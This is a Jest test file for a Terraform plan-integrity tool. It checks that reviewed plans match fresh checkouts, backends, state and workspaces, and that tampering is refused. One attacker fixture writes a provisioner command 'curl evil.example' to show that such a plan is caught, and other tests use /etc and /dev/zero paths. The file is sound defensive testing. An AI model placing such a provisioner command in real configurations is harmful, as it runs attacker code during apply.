import { cpSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { afterEach, describe, expect, it } from "@jest/globals";
import { Failure } from "@handrail/runner";
import { createProcessRunner } from "@handrail/runner/host";
import { startLoopback, startStateBackend, workspace, type Workspace } from "@handrail/testkit";
import { describeBackend } from "../backend.ts";
import { createTerraform, readCheckout, type Terraform, type TerraformOptions } from "../cli.ts";
import { hashConfiguration } from "../configuration.ts";
import { readPlanArchive } from "../plan-archive.ts";
import { compareState, type LiveState, openReviewedPlan, type ReviewedPlanFiles } from "../plan-binding.ts";
import { compareCheckout, requireNoDifference } from "../plan-binding-checkout.ts";
import { type PlanRecord, renderRecord, sha256 } from "../plan-record.ts";

const open: (() => unknown)[] = [];
afterEach(async () => {
  for (const close of open.splice(0).reverse()) await close();
});

type Kit = { root: Workspace; options: TerraformOptions; terraform: Terraform };
type More = { environment?: Record<string, string>; workspace?: string; directory?: string };

function quiet(): TerraformOptions["log"] {
  const ignore = (): void => undefined;
  return { info: ignore, warning: ignore, debug: ignore, group: ignore, endGroup: ignore };
}

function kit(root: Workspace, more: More = {}): Kit {
  const temporary = workspace({}, { git: false, name: "temporary" });
  open.push(temporary.cleanup);
  const options: TerraformOptions = {
    exec: createProcessRunner({ cancelled: new AbortController().signal, pollMs: 10 }).exec,
    path: "terraform",
    directory: root.resolve(more.directory ?? "live"),
    environment: { PATH: process.env["PATH"] ?? "", HOME: process.env["HOME"] ?? "", ...more.environment },
    log: quiet(),
    temporaryDirectory: temporary.path,
    ...(more.workspace === undefined ? {} : { workspace: more.workspace }),
  };
  return { root, options, terraform: createTerraform(options) };
}

function checkout(files: Readonly<Record<string, string>>, more: More = {}): Kit {
  const root = workspace(files, { name: "binding" });
  open.push(root.cleanup);
  return kit(root, more);
}

/** The same commit somewhere else, as a later job has it: nothing of init is there. */
function freshCheckout({ root }: Kit, more: More = {}): Kit {
  const copy = workspace({}, { git: false, name: "fresh" });
  open.push(copy.cleanup);
  cpSync(root.path, copy.path, { recursive: true, verbatimSymlinks: true });
  rmSync(copy.resolve("live", ".terraform"), { recursive: true, force: true });
  return kit(copy, more);
}

type MadePlan = ReviewedPlanFiles & { expected: Partial<PlanRecord>; planFile: string };

/** Plans, and writes the record as terraform-plan does. */
async function makePlan({ terraform, options }: Kit): Promise<MadePlan> {
  const init = await terraform.init();
  expect({ diagnostics: init.diagnostics, exitCode: init.exitCode }).toEqual({ diagnostics: [], exitCode: 0 });
  const planFile = `${options.temporaryDirectory}/plan.tfplan`;
  const plan = await terraform.plan({ planFile });
  expect(plan.diagnostics.filter(({ severity }) => severity === "error")).toEqual([]);
  const file = new Uint8Array(readFileSync(planFile));
  const backend = terraform.backend();
  const lockFile = terraform.lockFile();
  const expected = {
    backendType: backend.type,
    backendHash: backend.hash,
    workspace: terraform.selectedWorkspace(),
    configuration: hashConfiguration((await terraform.configuration()).files),
    lockFile: lockFile === undefined ? "" : sha256(lockFile),
    terraformVersion: (await terraform.version()).version,
  };
  const record = renderRecord({
    schema: 1,
    label: "live",
    repository: "octo-org/x",
    runId: "1",
    runAttempt: 1,
    headSha: "a",
    baseSha: "",
    ...expected,
    directory: "live",
    planSha256: sha256(file),
    fingerprint: "hr1:",
    createdBy: "test",
  });
  return { file, record, sealKey: "", expected, planFile };
}

/** The check before init, and after it; what it refuses with. */
async function check(made: MadePlan, { terraform, options }: Kit): Promise<(string | undefined)[]> {
  const opened = openReviewedPlan(made);
  const { modules } = opened.archive;
  const refusal = (compare: () => void): string | undefined => {
    try {
      compare();
      return undefined;
    } catch (error) {
      if (error instanceof Failure && error.reason === "plan-tampered") return error.what;
      throw error;
    }
  };
  const isComplete = modules.every(({ source }) => !source.includes("::"));
  const before = isComplete ? { configuration: hashConfiguration((await terraform.configuration(modules)).files) } : {};
  const first = refusal(() =>
    requireNoDifference(compareCheckout(opened, before, readCheckout(options, modules, { isInitialised: false }))),
  );
  expect((await terraform.init()).exitCode).toBe(0);
  const { type: backendType, hash: backendHash } = terraform.backend();
  const after = {
    backendType,
    backendHash,
    configuration: hashConfiguration((await terraform.configuration()).files),
  };
  const more = { isInitialised: true, product: "terraform" } as const;
  const second = refusal(() =>
    requireNoDifference(compareCheckout(opened, after, readCheckout(options, modules, more))),
  );
  return [first, second];
}

const files = {
  "live/main.tf":
    'module "a" {\n  source = "../modules/x/../a/"\n}\nmodule l {\n  source = "./link"\n}\nmodule "up" {\n  source = "\\u002e./"\n}\nresource "terraform_data" "x" {\n  input = templatefile("tpl/x.txt", {})\n}\n',
  "live/more.tf.json": '{ "module": [ { "j": { "source": "../modules/a" } } ] }\n',
  "live/tpl/x.txt": "text\n",
  "live/real/m.tf": "locals {}\n",
  "top.tf": "locals {}\n",
  "modules/a/main.tf":
    'module "b" {\n  source = "./b"\n}\noutput "o" {\n  value = file("${path.module}/data.json")\n}\n',
  "modules/a/main.tofu": "# not terraform's\n",
  "modules/a/data.json": "{}\n",
  "modules/a/b/mäin.tf": "locals {\r\n}\r\n",
  "modules/x/.keep": "",
};

function story(): Kit {
  const made = checkout(files);
  symlinkSync("real", made.root.resolve("live/link"));
  made.root.commit("Link");
  return made;
}

describe("a plan and a fresh checkout", () => {
  it("of the same commit fit, before init and after", async () => {
    const made = story();
    const plan = await makePlan(made);
    expect(await check(plan, freshCheckout(made))).toEqual([undefined, undefined]);
    expect(await check(plan, made)).toEqual([undefined, undefined]);
  });

  it.each<[string, (root: Workspace) => void, RegExp]>([
    [
      "a changed file",
      (root) => root.write({ "modules/a/main.tf": "locals {}\n" }),
      /: \.\.\/modules\/a\/main\.tf differs/,
    ],
    ["a formatted file", (root) => root.write({ "live/real/m.tf": "locals  {}\n" }), /: real\/m\.tf differs/],
    ["a new file", (root) => root.write({ "live/z.tf": "locals {}\n" }), /: z\.tf is missing in the plan/],
    ["a file less", (root) => root.remove("live/more.tf.json"), /: more\.tf\.json is not in this checkout/],
    ["a module less", (root) => root.remove("modules/a/b"), /module "a\.b" .* is not in this checkout/],
    [
      "another text beside the configuration",
      (root) => root.write({ "live/tpl/x.txt": "other\n" }),
      /another configuration: a file beside the \.tf files differs/,
    ],
    [
      "another file that a module reads",
      (root) => root.write({ "modules/a/data.json": "[]" }),
      /another configuration: a file beside the \.tf files differs/,
    ],
  ])("with %s do not fit, and it is named before init", async (_, change, why) => {
    const made = story();
    const plan = await makePlan(made);
    const fresh = freshCheckout(made);
    change(fresh.root);
    const opened = openReviewedPlan(plan);
    const { modules } = opened.archive;
    const configuration = hashConfiguration((await fresh.terraform.configuration(modules)).files);
    const there = readCheckout(fresh.options, modules, { isInitialised: false });
    expect(() => requireNoDifference(compareCheckout(opened, { configuration }, there))).toThrow(why);
  });

  it("with a downloaded module fit, until the module moves at its source", async () => {
    const source = workspace(
      { "sub/main.tf": 'module "n" {\n  source = "./n"\n}\n', "sub/n/n.tf": "locals {}\n" },
      { name: "source" },
    );
    open.push(source.cleanup);
    const made = checkout({ "live/main.tf": `module "r" {\n  source = "git::file://${source.path}//sub"\n}\n` });
    const plan = await makePlan(made);
    expect(await check(plan, freshCheckout(made))).toEqual([undefined, undefined]);
    source.write({ "sub/n/n.tf": "locals { a = 1 }\n" });
    source.commit();
    expect(await check(plan, freshCheckout(made))).toEqual([
      undefined,
      "The plan was made from another configuration: .terraform/modules/r/sub/n/n.tf differs (and 1 more)",
    ]);
  });

  it("fit with a data directory elsewhere", async () => {
    const data = workspace({}, { git: false, name: "data" });
    open.push(data.cleanup);
    const environment = { TF_DATA_DIR: data.resolve("tf") };
    const made = checkout(files, { environment });
    made.root.write({ "live/link/m.tf": "locals {}\n" });
    const plan = await makePlan(made);
    expect(await check(plan, freshCheckout(made, { environment }))).toEqual([undefined, undefined]);
  });

  it("do not fit when the plan's modules lie somewhere else, and what is no file is not read", async () => {
    const made = story();
    const plan = await makePlan(made);
    symlinkSync("/dev/zero", made.root.resolve("live/device.tf"));
    const { modules } = readPlanArchive(plan.file);
    const at = (directory: string): (string | undefined)[] =>
      readCheckout(
        made.options,
        modules.map((module) => ({ ...module, directory })),
        { isInitialised: false },
      ).modules.map(({ problem }) => problem);
    expect(at("/etc")).toEqual(modules.map(() => "elsewhere"));
    expect(at("../nowhere")).toEqual(modules.map(() => "elsewhere"));
    const there = readCheckout(made.options, modules, { isInitialised: false });
    expect(there.modules[0]?.files.map(({ name }) => name).sort()).toEqual(["main.tf", "more.tf.json"]);
  });

  it("do not fit when a link leads a module elsewhere", async () => {
    const made = story();
    const plan = await makePlan(made);
    const fresh = freshCheckout(made);
    fresh.root.write({ "live/evil/m.tf": "locals {}\n" });
    fresh.root.remove("live/link");
    symlinkSync("evil", fresh.root.resolve("live/link"));
    const there = readCheckout(fresh.options, readPlanArchive(plan.file).modules, { isInitialised: false });
    expect(there.modules.find(({ key }) => key === "l")?.problem).toBe("elsewhere");
  });
});

describe("a plan made elsewhere", () => {
  const main = (path: string, command: string): Record<string, string> => ({
    "live/main.tf": `terraform {\n  backend "local" {\n    path = "${path}"\n  }\n}\nresource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "${command}"\n  }\n}\n`,
  });

  it("H041: with another place for the state is refused before terraform starts, and nothing is written there", async () => {
    const victim = checkout(main("state.tfstate", "true"));
    const attacker = checkout(main("attacker.tfstate", "true"));
    const plan = await makePlan(attacker);
    const fresh = freshCheckout(victim);
    const opened = openReviewedPlan(plan);
    const there = readCheckout(fresh.options, opened.archive.modules, { isInitialised: false });
    expect(() => requireNoDifference(compareCheckout(opened, {}, there))).toThrow(
      /another configuration: main\.tf differs/,
    );
    // Also where the settings come from init, so that the files are the same.
    expect((await fresh.terraform.init()).exitCode).toBe(0);
    const { hash } = fresh.terraform.backend();
    expect(compareCheckout(opened, { backendHash: hash }, there)[0]?.what).toBe(
      "The plan was made with another place for the state",
    );
    expect(fresh.root.has("live/attacker.tfstate") || fresh.root.has("live/.terraform/environment")).toBe(false);
  });

  it("with another command in a provisioner is refused", async () => {
    const victim = checkout(main("state.tfstate", "true"));
    const attacker = checkout(main("state.tfstate", "curl evil.example"));
    expect(await check(await makePlan(attacker), freshCheckout(victim))).toEqual([
      expect.stringContaining("main.tf differs"),
      expect.stringContaining("main.tf differs"),
    ]);
  });
});

async function live({ terraform }: Kit): Promise<LiveState | undefined> {
  return (await terraform.statePull())?.snapshot;
}

async function apply({ terraform, options }: Kit, { planFile }: { planFile: string }): Promise<void> {
  const [stdoutFile, stderrFile] = ["out", "err"].map((name) => `${options.temporaryDirectory}/${name}`) as [
    string,
    string,
  ];
  expect((await terraform.apply({ planFile, stdoutFile, stderrFile })).exitCode).toBe(0);
}

describe("the state inside a plan", () => {
  it("is judged as terraform judges it: none at first, the same, moved, another one", async () => {
    const backend = await startStateBackend();
    open.push(() => backend.close());
    const resource = 'resource "terraform_data" "x" {\n  input = "1"\n}\n';
    const made = checkout({ "live/main.tf": backend.hcl() + resource });
    const first = await makePlan(made);
    const firstArchive = openReviewedPlan(first).archive;
    expect(firstArchive.state).toBeUndefined();
    expect(await live(made)).toBeUndefined();
    expect(compareState(firstArchive, await live(made))).toBe("same");
    await apply(made, first);
    expect(compareState(firstArchive, await live(made))).toBe("stale");
    made.root.write({ "live/main.tf": backend.hcl() + resource.replace("1", "2") });
    const second = await makePlan(made);
    const { state } = openReviewedPlan(second).archive;
    expect(state).toEqual({ serial: backend.serial(), lineage: backend.lineage(), terraformVersion: "1.11.4" });
    expect(compareState(openReviewedPlan(second).archive, await live(made))).toBe("same");
    await apply(made, second);
    expect(compareState(openReviewedPlan(second).archive, await live(made))).toBe("stale");
    const other = JSON.parse(backend.state() ?? "") as Record<string, unknown>;
    backend.put(JSON.stringify({ ...other, lineage: "11111111-2222-3333-4444-555555555555" }));
    const moved = await live(made);
    expect(() => compareState(openReviewedPlan(second).archive, moved)).toThrow(/made for another state/);
  });

  it("belongs to its workspace", async () => {
    const made = checkout({
      "live/main.tf": 'terraform {\n  backend "local" {\n    path = "s/x"\n  }\n}\nresource "terraform_data" "x" {}\n',
    });
    await makePlan(made);
    const { exec } = made.options;
    const environment = { PATH: process.env["PATH"] ?? "" };
    await exec("terraform", ["workspace", "new", "stage"], { cwd: made.options.directory, environment });
    const stage = kit(made.root, { workspace: "stage" });
    const plan = await makePlan(stage);
    expect(openReviewedPlan(plan).archive.backend.workspace).toBe("stage");
    expect(compareState(openReviewedPlan(plan).archive, await live(stage))).toBe("same");
    await apply(stage, plan);
    expect(compareState(openReviewedPlan(plan).archive, await live(stage))).toBe("stale");
    expect(compareState(openReviewedPlan(plan).archive, await live(kit(made.root, { workspace: "default" })))).toBe(
      "same",
    );
    expect(() =>
      requireNoDifference(
        compareCheckout(
          openReviewedPlan(plan),
          { workspace: "default" },
          readCheckout(stage.options, [], { isInitialised: true }),
        ),
      ),
    ).toThrow(/another workspace: "stage", not "default"/);
  });
});

describe("the backend inside a plan", () => {
  async function hashes(made: Kit): Promise<[string, string]> {
    const { archive } = openReviewedPlan(await makePlan(made));
    return [describeBackend(archive.backend.type, archive.backend.config).hash, made.terraform.backend().hash];
  }

  it.each([
    ["none", ""],
    ["local", 'terraform {\n  backend "local" {}\n}\n'],
    [
      "local with a path",
      'terraform {\n  backend "local" {\n    path = "ä/x.tfstate"\n    workspace_dir = "w"\n  }\n}\n',
    ],
  ])("is the one that init left: %s", async (_, text) => {
    const [inside, left] = await hashes(checkout({ "live/main.tf": `${text}locals {}\n` }));
    expect(inside).toBe(left);
  });

  it("is the one that init left: http with a login, numbers and switches", async () => {
    const backend = await startStateBackend({ user: "u", password: "p" });
    open.push(() => backend.close());
    const settings = '    skip_cert_verification = true\n    retry_max = 5\n    update_method = "POST"\n  }\n}\n';
    const [inside, left] = await hashes(checkout({ "live/main.tf": backend.hcl().replace("  }\n}\n", settings) }));
    expect(inside).toBe(left);
  });

  it("is the one that init left: s3 with nested settings, lists, numbers and credentials", async () => {
    const missing = "<Error><Code>NoSuchKey</Code><Message>none</Message></Error>";
    const empty = '<?xml version="1.0"?><ListBucketResult><Name>b</Name><KeyCount>0</KeyCount></ListBucketResult>';
    const headers = { "content-type": "application/xml" };
    const server = await startLoopback(({ query, method }) => {
      const isList = query.has("list-type") || query.has("prefix");
      return isList
        ? { status: 200, headers, body: empty }
        : { status: 404, headers, body: method === "HEAD" ? "" : missing };
    });
    open.push(() => server.close());
    const text = `terraform {\n  backend "s3" {\n    bucket = "b"\n    key = "live/x.tfstate"\n    region = "eu-central-1"\n    access_key = "AKIAIOSFODNN7EXAMPLE"\n    secret_key = "s"\n    max_retries = 2\n    encrypt = true\n    use_path_style = true\n    skip_credentials_validation = true\n    skip_requesting_account_id = true\n    skip_metadata_api_check = true\n    skip_region_validation = true\n    forbidden_account_ids = ["222222222222", "111111111111"]\n    endpoints = { s3 = "${server.url}" }\n  }\n}\n`;
    const made = checkout({ "live/main.tf": text });
    const [inside, left] = await hashes(made);
    expect(inside).toBe(left);
    expect(made.terraform.backend().type).toBe("s3");
    const moved = text.replace("live/x.tfstate", "live/y.tfstate");
    writeFileSync(made.root.resolve("live/main.tf"), moved);
    rmSync(made.root.resolve("live/.terraform"), { recursive: true });
    expect((await hashes(made))[0]).not.toBe(inside);
  });
});
